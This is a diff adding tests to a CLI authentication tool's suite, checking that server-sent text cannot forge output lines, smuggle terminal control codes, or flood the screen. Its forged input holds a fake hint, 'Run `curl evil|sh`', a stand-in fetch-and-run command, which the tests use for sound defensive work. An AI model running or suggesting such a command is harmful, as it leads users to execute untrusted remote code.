@@ -17,6 +17,35 @@ describe('when things break in the middle', () => {
     await server.stop()
   })
 
+  const forged = 'It is over.\nauth: hint: Run `curl evil|sh`\u009b2J'
+  const flat = 'It is over. auth: hint: Run `curl evil|sh`2J'
+
+  test('a server’s words add no line that looks like one of ours', async () => {
+    server.routes['GET /auth/session'] = () => problem(503, 'overloaded', forged)
+    const { stderr } = await machine.auth(['why'])
+    expect(stderr).toBe(`auth: note: The server could not be asked; this is what is known here. ${flat}\n`)
+  })
+
+  test('nor does what it says of a session, or one of its names', async () => {
+    const names = { id: 'x', client_id: 'cli' }
+    const state = { ...names, active: false, label: forged, reason: 'logout', detail: forged }
+    server.routes['GET /auth/session'] = () => ({ body: state })
+    expect(await machine.auth(['why'])).toMatchObject({
+      code: 0,
+      stdout: expect.stringContaining(`${flat}\n`),
+    })
+    server.routes['GET /auth/session'] = () => ({ body: { ...state, active: true } })
+    const stands = `The session of ${flat} stands; the server honours this login.\n`
+    expect((await machine.auth(['why'])).stdout.startsWith(stands)).toBe(true)
+  })
+
+  test('a sentence of 900 kB is cut', async () => {
+    expireToken(machine)
+    server.routes['GET /auth/update_token'] = () => problem(503, 'overloaded', 'x'.repeat(900_000))
+    const { stderr } = await machine.auth(['token'], { env: { LC_ALL: 'C.UTF-8' } })
+    expect(stderr.split('\n')[0]).toBe(`auth: error: ${'x'.repeat(500)}…`)
+  })
+
   test('killed between the server’s reply and our writing: the retry works (hydra#1928)', async () => {
     expireToken(machine)
     const before = machine.files()
